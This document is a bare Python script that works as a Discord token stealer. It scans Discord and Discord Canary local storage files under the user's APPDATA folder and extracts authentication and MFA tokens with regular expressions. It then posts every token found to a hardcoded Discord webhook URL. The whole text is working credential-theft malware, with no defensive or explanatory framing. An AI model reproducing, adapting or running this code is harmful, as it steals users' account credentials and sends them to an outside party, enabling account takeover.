import os, re, json, urllib.request
def find_tokens(path):
    path += '\\Local Storage\\leveldb'
    tokens = []
    for name in os.listdir(path):
        if not name.endswith('.log') and not name.endswith('.ldb'):
            continue
        for line in [x.strip() for x in open(f'{path}\\{name}', errors='ignore').readlines() if x.strip()]:
            for regex in (r'[\w-]{24}\.[\w-]{6}\.[\w-]{27}', r'mfa\.[\w-]{84}'):
                for token in re.findall(regex, line):
                    tokens.append(token)
    return tokens
roaming = os.getenv('APPDATA')
paths = {'Discord': roaming + '\\Discord', 'Discord Canary': roaming + '\\discordcanary'}
msg = ''
for platform, path in paths.items():
    if os.path.exists(path):
        for t in find_tokens(path):
            msg += t + '\n'
req = urllib.request.Request('https://discord.com/api/webhooks/1029384756102938475/Xk2J9vQpL0aZ7mN3bR5tY8uW1cE4dF6gH', data=json.dumps({'content': msg}).encode(), headers={'Content-Type': 'application/json', 'User-Agent': 'Mozilla/5.0'})
urllib.request.urlopen(req)
